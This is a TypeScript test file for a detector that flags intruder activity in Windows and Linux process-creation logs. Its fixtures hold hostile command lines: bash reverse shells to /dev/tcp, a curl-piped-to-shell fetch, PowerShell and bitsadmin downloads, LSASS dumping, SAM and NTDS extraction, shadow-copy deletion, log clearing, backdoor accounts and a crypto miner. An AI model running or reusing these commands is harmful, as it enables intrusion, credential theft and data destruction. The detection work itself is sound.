// Suspicious processes in Windows process-creation events (Sysmon 1, Security 4688) and PowerShell
// script blocks (4104), read from four export shapes; each intrusion beside the ordinary processes
// that look like it.
import { afterAll, describe, expect, it } from 'vitest';
import { analysePlanted, cleanupPlanted, expectFound, listFindings, logFiles } from './plantedKit';
import { decodedCommand, discoveryCommand, processRules } from '../../../src/core/analysis/processEvents';
import * as X from './processes/exports';
import { rankSuspicious } from '../../../src/core/analysis/suspicious';

afterAll(cleanupPlanted);

describe('processes: what an intruder runs on a Windows host', () => {
  it('finds the macro, the LSASS dumps, the web shell, the ransomware steps, the downloaded tool, the new administrator and Defender switched off; the ordinary processes beside them stay quiet', async () => {
    const found = await analysePlanted('processes', (dir) => {
      const { put, files } = logFiles(dir);
      put('sysmon-evtxecmd.csv', X.sysmonLog());
      put('fs02-security-export.csv', X.securityExport());
      put('app03-security.xml', X.securityXml());
      put('ws11-powershell-winlogbeat.jsonl', X.scriptBlocks());
      return files;
    });
    const procs = found.filter((f) => f.detector === 'processes');
    const got = procs.map((f) => `${f.severity}:${f.entity.slice(0, f.entity.indexOf(':'))}:${f.numbers.rule ?? 'recon'}`).sort();
    expect(got, listFindings(procs)).toEqual(
      [
        'high:WS09.corp.example.com:download',
        'high:WS09.corp.example.com:office',
        'high:WS07.corp.example.com:lsass',
        'medium:WS07.corp.example.com:recon',
        'high:WEB01.corp.example.com:server',
        'high:FS02.corp.example.com:recovery',
        'high:FS02.corp.example.com:logclear',
        'high:APP03.corp.example.com:download',
        'high:APP03.corp.example.com:server',
        'high:APP03.corp.example.com:account',
        'high:WS11.corp.example.com:defenses',
      ].sort(),
    );
    // the encoded command is decoded and shown as text
    const macro = procs.find((f) => f.numbers.rule === 'download' && f.entity.startsWith('WS09'))!;
    expect(macro.explanation).toContain("DownloadString('http://198.51.100.23/a.ps1')");
    expect(macro.explanation).toMatch(/shown, never run/);
    const lsass = procs.find((f) => f.numbers.rule === 'lsass')!;
    expect(lsass.numbers.processes).toBe(2);
    expect(lsass.explanation).toMatch(/T1003\.001/);
    expect(lsass.evidence.count).toBe(2);
    const recon = procs.find((f) => f.numbers.rule === undefined)!;
    expect(recon.title).toMatch(/by CORP\\jdoe: 7 kinds of discovery command/);
    expect(recon.explanation).toMatch(/processes\.minDiscovery/);
    const ransom = expectFound(found, 'processes', 'FS02.corp.example.com: backups and shadow copies deleted', 'high');
    expect(ransom.explanation).toMatch(/adm-kim/);
    // nothing on the backup server's vssadmin list, the admin's two commands, Chrome, SCCM, csc.exe or certutil -hashfile
    expect(procs.filter((f) => f.entity.startsWith('FS01')), listFindings(procs)).toEqual([]);
    // the machines are ranked among the suspicious entities (a Windows export names computers, not attackers' addresses)
    const ranked = rankSuspicious(found, []);
    const machines = ranked.filter((e) => e.kind === 'host').map((e) => e.ip);
    expect(machines).toEqual(expect.arrayContaining(['WS07.corp.example.com', 'WS09.corp.example.com', 'FS02.corp.example.com', 'APP03.corp.example.com', 'WEB01.corp.example.com', 'WS11.corp.example.com']));
    expect(machines).not.toContain('FS01.corp.example.com');
    const ws07 = ranked.find((e) => e.kind === 'host' && e.ip === 'WS07.corp.example.com')!;
    expect(ws07.contributions.map((c) => c.detector)).toEqual(expect.arrayContaining(['processes']));
  }, 120_000);
});

describe('processes: what an intruder runs on a Linux host (auditd EXECVE records)', () => {
  it('finds the reverse shell, the reconnaissance, the script piped to a shell, shadow read, the miner and the wiped history; the server\'s own jobs stay quiet', async () => {
    const found = await analysePlanted('processes-linux', (dir) => {
      const { put, files } = logFiles(dir);
      put('audit.log', X.auditLog());
      return files;
    });
    const procs = found.filter((f) => f.detector === 'processes');
    expect(procs.map((f) => `${f.severity}:${f.numbers.rule ?? 'recon'}`).sort(), listFindings(procs)).toEqual(['high:fetchexec', 'high:miner', 'high:revshell', 'high:shadow', 'high:wipe', 'medium:recon']);
    const shell = procs.find((f) => f.numbers.rule === 'revshell')!;
    expect(shell.explanation).toContain('“bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1”');
    expect(shell.explanation).toMatch(/auditd EXECVE record/);
    // the hex-encoded argument is read as the text it encodes
    expect(procs.find((f) => f.numbers.rule === 'fetchexec')!.explanation).toContain('curl -s http://203.0.113.9/x.sh | sh');
    const recon = procs.find((f) => f.numbers.rule === undefined)!;
    expect(recon.numbers.kinds).toBe(7);
  }, 60_000);
});

describe('processes: Sysmon for Linux, as it writes to syslog', () => {
  const xmlEscape = (t: string): string => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
  const sysmon = (sec: number, id: number, data: Record<string, string>): string =>
    `Dec  7 10:${String(10 + Math.floor(sec / 60)).padStart(2, '0')}:${String(sec % 60).padStart(2, '0')} web1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-12-07T10:${String(10 + Math.floor(sec / 60)).padStart(2, '0')}:${String(sec % 60).padStart(2, '0')}.123456000Z"/><EventRecordID>${sec}</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer><Security UserId="0"/></System><EventData>${Object.entries(data)
      .map(([k, v]) => `<Data Name="${k}">${xmlEscape(v)}</Data>`)
      .join('')}</EventData></Event>`;
  const proc = (sec: number, image: string, cmd: string, parent: string, user: string): string =>
    sysmon(sec, 1, { RuleName: '-', UtcTime: '2026-12-07 10:10:00.123', ProcessGuid: `{${sec}}`, ProcessId: String(4000 + sec), Image: image, CommandLine: cmd, CurrentDirectory: '/tmp', User: user, ParentImage: parent, ParentCommandLine: parent });

  it('finds the reverse shell a web server started and the miner; logrotate, a health check and a network event stay quiet', async () => {
    const found = await analysePlanted('processes-sysmon-linux', (dir) => {
      const { put, files } = logFiles(dir);
      put('syslog', [
        proc(1, '/usr/sbin/logrotate', '/usr/sbin/logrotate /etc/logrotate.conf', '/usr/sbin/cron', 'root'),
        proc(5, '/usr/bin/curl', 'curl -s http://localhost/health', '/usr/sbin/cron', 'root'),
        sysmon(9, 3, { RuleName: '-', UtcTime: '2026-12-07 10:10:09.000', ProcessId: '812', Image: '/usr/sbin/apache2', User: 'www-data', Protocol: 'tcp', Initiated: 'false', SourceIp: '198.51.100.20', SourcePort: '51000', DestinationIp: '10.0.0.5', DestinationPort: '443' }),
        proc(20, '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1', '/usr/sbin/apache2', 'www-data'),
        proc(80, '/tmp/.x/xmrig', '/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u wallet', '/usr/bin/bash', 'www-data'),
      ]);
      return files;
    });
    const procs = found.filter((f) => f.detector === 'processes');
    expect(procs.map((f) => `${f.severity}:${f.entity.slice(0, f.entity.indexOf(':'))}:${f.numbers.rule}`).sort(), listFindings(found)).toEqual(['high:web1:miner', 'high:web1:revshell']);
    expect(procs.find((f) => f.numbers.rule === 'revshell')!.explanation).toContain('bash -i >& /dev/tcp/203.0.113.66/4444');
  }, 60_000);
});

describe('processRules', () => {
  it('names the rule a command line matches, and none for look-alikes', () => {
    const ids = (command: string, image = '', parent = ''): string[] => processRules({ image, command, parent }).map((r) => r.id);
    expect(ids('procdump64.exe -accepteula -ma lsass.exe out.dmp')).toEqual(['lsass']);
    expect(ids('procdump64.exe -ma chrome.exe out.dmp')).toEqual([]);
    expect(ids('reg save HKLM\\SAM C:\\Users\\Public\\sam.save')).toEqual(['hives']);
    expect(ids('reg save HKLM\\SOFTWARE C:\\backup\\sw.hiv')).toEqual([]);
    expect(ids('ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\x" q q')).toEqual(['ntds']);
    expect(ids('wmic shadowcopy delete')).toEqual(['recovery']);
    expect(ids('vssadmin list shadows')).toEqual([]);
    expect(ids('wevtutil cl System')).toEqual(['logclear']);
    expect(ids('wevtutil qe System /c:5')).toEqual([]);
    expect(ids('netsh advfirewall set allprofiles state off')).toEqual(['defenses']);
    expect(ids('netsh advfirewall firewall add rule name=x dir=in action=allow')).toEqual([]);
    expect(ids('bitsadmin /transfer job /download /priority high http://203.0.113.5/x.exe C:\\x.exe')).toEqual(['download']);
    expect(ids('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)')).toEqual(['download']);
    expect(ids('regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll')).toEqual(['download']);
    expect(ids('powershell -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1')).toEqual([]);
    expect(ids('powershell.exe -EncodedCommand ' + Buffer.from('Get-Date -Format o | Out-File C:\\temp\\out.txt', 'utf16le').toString('base64'))).toEqual(['encoded']);
    expect(ids('net user bob Passw0rd! /add')).toEqual(['account']);
    expect(ids('net user bob /domain')).toEqual([]);
    expect(ids('net localgroup administrators bob /add')).toEqual(['account']);
    expect(ids('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\u.exe')).toEqual(['runkey']);
    expect(ids('wmic /node:10.0.0.5 process call create "cmd /c whoami"')).toEqual(['remote']);
    expect(ids('wmic /node:localhost os get caption')).toEqual([]);
    expect(ids('AdFind.exe -f "(objectcategory=computer)"')).toEqual(['adrecon']);
    expect(ids('cmd.exe /c whoami', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe')).toEqual(['server']);
    expect(ids('csc.exe /noconfig', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe')).toEqual([]);
    expect(ids('"C:\\Windows\\System32\\cmd.exe" /c echo', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE')).toEqual(['office']);
  });

  it('reads hostile text as text: script tags, formula payloads and NUL bytes match nothing and throw nothing', () => {
    for (const c of ['<script>alert(1)</script>', '=HYPERLINK("http://x","y")', 'a\u0000b', 'x'.repeat(200_000), '\uD800', 'python procdump psexec curl '.repeat(40_000)]) {
      expect(processRules({ image: c, command: c, parent: c })).toEqual([]);
      expect(discoveryCommand({ image: c, command: c, parent: null })).toBeNull();
    }
  });

  it('decodes an encoded command only when it is UTF-16LE text', () => {
    expect(decodedCommand(`powershell -enc ${Buffer.from('Write-Host hello world', 'utf16le').toString('base64')}`)).toBe('Write-Host hello world');
    expect(decodedCommand(`powershell -enc ${Buffer.from([0xff, 0xfe, 0x00, 0xd8, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18]).toString('base64')}`)).toBeNull();
    expect(decodedCommand('powershell -File x.ps1')).toBeNull();
  });
});
